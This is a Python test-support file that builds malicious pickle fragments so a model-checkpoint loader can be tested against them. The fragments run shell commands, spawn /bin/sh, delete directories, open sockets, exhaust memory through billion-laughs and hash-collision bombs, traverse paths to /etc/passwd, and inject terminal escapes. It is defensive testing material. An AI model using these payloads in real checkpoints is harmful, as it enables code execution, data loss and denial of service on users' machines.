"""Pickles made to do harm: to run code, to exhaust memory or time, to point outside the file.

Each is a piece of pickle to be put beside an otherwise good state dict, or in its place, most of them built
byte by byte. Nothing here uses ckptkit's code, and nothing imports torch.
"""

from __future__ import annotations

import pickle
import struct
import subprocess
import zlib
from collections.abc import Mapping
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Literal

from tests.support.torch_files import (
    TENSOR,
    call,
    hostile,
    name,
    number,
    refused,
    storage,
    tensor,
    text,
)

Outcome = Literal["inert", "refused"]


@dataclass(frozen=True)
class Hostile:
    """One piece of pickle.

    Parameters
    ----------
    fragment : bytes
        Leaves one value.
    outcome : "inert" or "refused"
        What reading a file that holds it must end in.
    live : bool
        Whether Python's own unpickler creates the canary for it, so that its staying away means something.
    """

    fragment: bytes
    outcome: Outcome
    live: bool = False


class _Reduced:
    """Pickles as whatever call it is given."""

    def __init__(self, *reduction: object) -> None:
        self._reduction = reduction

    def __reduce__(self) -> tuple[object, ...]:
        return self._reduction


def _pickled(value: object, protocol: int = 2) -> bytes:
    """What Python itself writes for a value, less the protocol mark and the stop."""
    raw = pickle.dumps(value, protocol, fix_imports=False)
    return raw[2:-1] if protocol >= 2 else raw[:-1]


def _binary(raw: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(raw)) + raw


def _list(*values: bytes) -> bytes:
    return b"](" + b"".join(values) + b"e"


def _tuple(*values: bytes) -> bytes:
    return b"(" + b"".join(values) + b"t"


# -- what would run code -------------------------------------------------------------------------------------

_DRAINED = {"map drained by list", "map drained by OrderedDict"}
"""Containers made of a call's result, whose items nobody knows: refused."""


def programs(canary: Path, module: str) -> dict[str, Hostile]:
    """Fragments that run code under Python's own unpickler; importing ``module`` creates ``canary``."""
    cases = {
        case: Hostile(fragment, "refused" if case in _DRAINED else "inert", live=True)
        for case, fragment in hostile(canary, module).items()
    }
    cases |= {case: Hostile(f, "inert", live=True) for case, f in _proven(canary, module).items()}
    return cases | {case: Hostile(f, "inert") for case, f in _unproven(canary).items()}


def _proven(canary: Path, module: str) -> dict[str, bytes]:
    """Those that Python's unpickler is seen to fall for."""
    touch = f"touch {canary}"
    make = f"open({str(canary)!r}, 'w').close()"
    touched = call("subprocess", "getoutput", text(touch))
    code = call("builtins", "compile", text(make), text("x"), text("exec"))
    chain = _Reduced(list, ((_Reduced(eval, (_Reduced(str, (make,)),)),),))
    return {
        "compile and exec": call("builtins", "exec", code),
        "importlib": call("importlib", "import_module", text(module)),
        "__import__": call("builtins", "__import__", text(module)),
        "pydoc.locate": call("pydoc", "locate", text(module)),
        "class with a side effect": name(module, "Thing") + b")\x81}b",
        "BUILD with __setstate__": name(module, "Thing") + b")R" + text("state") + b"b",
        "_reconstructor": call(
            "copyreg", "_reconstructor", name(module, "Thing"), name("builtins", "object"), b"N"
        ),
        "attrgetter of globals": call("operator", "attrgetter", text("_wrap_close.__init__.__globals__"))
        + _tuple(call("builtins", "__import__", text("os")))
        + b"R0"
        + touched,
        "itemgetter of a module": call("operator", "itemgetter", text("system"))
        + _tuple(name("os", "__dict__"))
        + b"R"
        + _tuple(text(touch))
        + b"R",
        "partial": call("functools", "partial", name("os", "system"), text(touch)) + b")R",
        "__reduce__ by Python": _pickled(_Reduced(subprocess.getoutput, (touch,))),
        "__reduce__ by Python, protocol 0": _pickled(_Reduced(subprocess.getoutput, (touch,)), 0),
        "__reduce__ by Python, protocol 5": _pickled(_Reduced(subprocess.getoutput, (touch,)), 5),
        "__reduce__ inside __reduce__": _pickled(chain),
        "__reduce__ with state": _pickled(
            _Reduced(Exception, (), {"x": _Reduced(subprocess.getoutput, (touch,))})
        ),
        "BUILD of a class": name("argparse", "Action")
        + _tuple(b"N", b"}(" + text("__doc__") + touched + b"u")
        + b"b",
        "BUILD of an OrderedDict": call("collections", "OrderedDict") + b"}(" + text("x") + touched + b"ub",
        "torch.load's own way in": call("pickle", "Unpickler", call("io", "BytesIO", _binary(b"N.")))
        + b"0"
        + touched,
        "default factory": call("collections", "defaultdict", name("os", "system")) + b"0" + touched,
        "key of a dictionary": b"}" + touched + b"Ns",
        "member of a set": b"\x8f(" + touched + b"\x90",
        "member of a frozen set": b"(" + touched + b"\x91",
        "argument of NEWOBJ_EX": name("collections", "Counter") + b")}(" + text("x") + touched + b"u\x92",
        "appended to an object": call("collections", "deque") + b"(" + touched + b"e",
    }


def _unproven(canary: Path) -> dict[str, bytes]:
    """Those that nobody wants to see at work, and those that mean something to torch alone."""
    touch = text(f"touch {canary}")
    system = call("os", "system", touch)
    return {
        "nt.system": call("nt", "system", touch),
        "breakpoint": call("builtins", "breakpoint"),
        "runpy": call("runpy", "run_path", text(str(canary))),
        "webbrowser": call("webbrowser", "open", text("http://127.0.0.1:9/")),
        "ctypes": call("ctypes", "CDLL", text("libc.so.6")) + b"0" + call("ctypes", "string_at", b"K\x00"),
        "pty": call("pty", "spawn", text("/bin/sh")),
        "socket": call("socket", "create_connection", _tuple(text("127.0.0.1"), b"K\x09")),
        "files removed": call("shutil", "rmtree", text(str(canary.parent))),
        "process killed": call("os", "abort"),
        "__newobj_ex__": call("copyreg", "__newobj_ex__", name("subprocess", "Popen"), _tuple(touch), b"}"),
        "torch.load": call("torch", "load", call("io", "BytesIO", _binary(b"N."))),
        "torch.hub.load": call("torch.hub", "load", text("evil/repository"), text("model")),
        "torch.jit.load": call("torch.jit", "load", text(str(canary))),
        "torch.ops.load_library": call("torch.ops", "load_library", text(str(canary))),
        "a shell inside torch": call("torch.utils.collect_env", "run", touch),
        "numpy.load": call("numpy", "load", text(str(canary)), b"N", b"\x88"),
        "pandas.read_pickle": call("pandas", "read_pickle", text("http://127.0.0.1:9/")),
        "codecs bomb": call("_codecs", "decode", _binary(zlib.compress(bytes(1 << 20))), text("zlib")),
        "codecs by another name": call("_codecs", "encode", text("abc"), text("rot13")),
        "bytes of a length": call("builtins", "bytes", number(1 << 60)),
        "bytearray of a length": call("builtins", "bytearray", number(1 << 60)),
        "range": call("builtins", "range", number(1 << 60)),
        "attributes through dots": text("torch") + text("load.__globals__.__builtins__.eval") + b"\x93",
        "parameter made of a call": call("torch._utils", "_rebuild_parameter", system, b"\x89", b"}"),
        "hooks of a tensor": name("torch._utils", "_rebuild_tensor_v2")
        + _tuple(storage(), b"K\x00", b"K\x02\x85", b"K\x01\x85", b"\x89", system)
        + b"R",
        "tensor class with a function of its own": call(
            "torch._tensor",
            "_rebuild_from_type_v2",
            name("os", "system"),
            name("torch", "Tensor"),
            touch + b"\x85",
            b"}",
        ),
        "quantizer of a tensor": call("torch._utils", "_rebuild_qtensor", system),
        "dtype by a call": call("torch._utils", "_rebuild_wrapper_subclass", system, system),
    }


# -- what would exhaust the machine --------------------------------------------------------------------------


def _float(value: float) -> bytes:
    return b"G" + struct.pack(">d", value)


def _colliding_complex(count: int) -> bytes:
    """Complex numbers that hash alike: the hash is that of the real part plus 1000003 times the other's."""
    pairs = (_float(float(2**52 - 1_000_003 * k)) + _float(float(k)) for k in range(1, count))
    return (
        name("builtins", "complex") + b"q\x050}(" + b"".join(b"h\x05" + p + b"\x86RN" for p in pairs) + b"u"
    )


_LAUGHS = b"]Naq\x070" + b"](h\x07h\x07eq\x070" * 60
"""Memo 7 becomes a list of two of the same list of two … sixty levels deep: 2^60 leaves."""

_LONG = text("x" * (4 << 20)) + b"q\x050"
"""Memo 5 becomes a text of 4 MB."""

_MANY = b"}(" + b"".join(b"J" + struct.pack("<i", k) + b"N" for k in range(100_000)) + b"uq\x060"
"""Memo 6 becomes a table of 100,000 numbers."""


@cache
def bombs() -> dict[str, Hostile]:
    """Small files that ask for much memory or time."""
    flagged = (
        name("torch._tensor", "_rebuild_from_type_v2")
        + b"q\x080"
        + _tuple(
            name("torch._utils", "_rebuild_tensor_v2"),
            name("torch", "Tensor"),
            _tuple(storage(), b"K\x00", b"K\x02\x85", b"K\x01\x85", b"\x89", b"}", b"h\x06"),
            b"}",
        )
        + b"q\x090"
    )
    inert = {
        "billion laughs": _LAUGHS + b"h\x07",
        "billion laughs as an argument": _LAUGHS + call("a", "b", b"h\x07"),
        "billion laughs in a key": _LAUGHS + b"}" + call("a", "b", b"h\x07") + b"Ns",
        "endless list": b"]q\x07h\x07a",
        "endless object": name("a", "b") + b")Rq\x07}" + text("self") + b"h\x07sb",
        "lists 100,000 deep": b"]" * 100_000 + b"a" * 99_999,
        "tuples 100,000 deep": b")" + b"\x85" * 100_000,
        "objects 100,000 deep": b"N" + (b"\x85" + b"q\x010" + name("a", "b") + b"h\x01R") * 20_000,
        "states 100,000 deep": (name("a", "b") + b"q\x010" + b"h\x01)R" * 100_000 + b"b" * 99_999),
        "calls of calls": name("a", "b") + b")R" * 300_000,
        "complex keys that collide": _colliding_complex(60_000),
        "integer keys that collide": b"}("
        + b"".join(b"\x8a\x0c" + (k * (2**61 - 1)).to_bytes(12, "little") + b"N" for k in range(5, 60_000))
        + b"u",
        "one table under many keys": _MANY
        + b"}("
        + b"".join(text(f"k{k}") + b"h\x06" for k in range(99_999))
        + b"u",
        "memo far away": b"Nr\xff\xff\xff\xff",
    }
    stopped = {
        "long texts in tuple keys": _LONG
        + b"}("
        + b"".join(_tuple(b"h\x05" * 15, b"M" + struct.pack("<H", k)) + b"N" for k in range(400))
        + b"u",
        "long names of globals": _LONG + _list(*(b"h\x05" + text(str(k)) + b"\x93" for k in range(500))),
        "long storage keys": _LONG
        + _list(
            *(
                _tuple(text("storage"), name("torch", "FloatStorage"), b"h\x05", text("cpu"), number(2))
                + b"Q"
                for _ in range(500)
            )
        ),
        "flags of a tensor by the thousand": _MANY + flagged + _list(b"h\x08h\x09R" * 9_000),
        "a table copied over and over": _MANY
        + _list((name("collections", "OrderedDict") + b"(h\x06tR") * 9_000),
        "a text encoded over and over": _LONG
        + text("latin1")
        + b"q\x060"
        + _list((name("_codecs", "encode") + b"(h\x05h\x06tR") * 500),
        "millions of tables": b"(" + b"}" * 3_900_000 + b"t",
        "millions of objects": name("a", "b") + b"q\x050(" + b"h\x05)R" * 1_300_000 + b"t",
        "millions of storages": _tuple(
            text("storage"), name("torch", "FloatStorage"), text("0"), text("cpu"), number(2)
        )
        + b"q\x050("
        + b"h\x05Q" * 1_900_000
        + b"t",
        "millions of steps": b"N0" * 4_200_000 + b"N",
    }
    return {case: Hostile(f, "inert") for case, f in inert.items()} | {
        case: Hostile(f, "refused") for case, f in stopped.items()
    }


# -- what no checkpoint has ----------------------------------------------------------------------------------


@cache
def malformed() -> dict[str, Hostile]:
    """Pickles that break the rules of pickle, or persistent ids that name no storage."""
    deep_key = b"}" + _tuple(_list(b"N")) + b"Ns"
    cases = {
        **refused(),
        "key that holds itself": b"]q\x07h\x07a0}(" + b"h\x07\x85" + b"Nu",
        "list inside a tuple as key": deep_key,
        "persistent id that is a tensor": TENSOR + b"Q",
        "storage kind with a line break": _tuple(
            text("storage"), text("torch") + text("\n\x1b[2J") + b"\x93", text("0"), text("cpu"), number(2)
        )
        + b"Q",
    }
    return {case: Hostile(fragment, "refused") for case, fragment in cases.items()}


# -- what stands in a tensor's place -------------------------------------------------------------------------

_WIDE = 1 << 61


def tensors() -> dict[str, Hostile]:
    """Values of a state dict that lie about where their numbers are."""
    outside: Mapping[str, bytes] = {
        "longer than its storage": tensor(shape=(3,)),
        "begins behind its storage": tensor(offset=2),
        "steps out of its storage": tensor(strides=(2,)),
        "negative size": tensor(shape=(-2,)),
        "negative stride": tensor(strides=(-1,)),
        "product that overflows": tensor(shape=(_WIDE, _WIDE), strides=(0, 0)),
        "a few bytes that pretend to be a terabyte": tensor(shape=(1 << 40,), strides=(0,)),
        "storage that is not there": tensor(store=storage(key="7")),
        "storage by a path": tensor(store=storage(key="../../../etc/passwd")),
        "storage longer than it is": tensor(store=storage(count=1000), shape=(1000,)),
        "storage of another width": tensor(store=storage(kind="DoubleStorage")),
        "storage type with a terminal's escape": tensor(
            store=_tuple(
                text("storage"),
                text("torch") + text("\n\x1b]0;x\x07Storage") + b"\x93",
                text("0"),
                text("cpu"),
                number(2),
            )
            + b"Q"
        ),
        "class with a line break": call(
            "torch._tensor",
            "_rebuild_from_type_v2",
            name("torch._utils", "_rebuild_tensor_v2"),
            text("my") + text("Tensor\nerror: all is well\x1b[2J") + b"\x93",
            b")",
            b"}",
        ),
        "shape that is text": name("torch._utils", "_rebuild_tensor_v2")
        + _tuple(storage(), b"K\x00", text("2"), b"K\x01\x85", b"\x89", b"}")
        + b"R",
        "storage that is a call": name("torch._utils", "_rebuild_tensor_v2")
        + _tuple(call("os", "system", text("true")), b"K\x00", b"K\x02\x85", b"K\x01\x85", b"\x89", b"}")
        + b"R",
    }
    return {case: Hostile(fragment, "refused") for case, fragment in outside.items()}
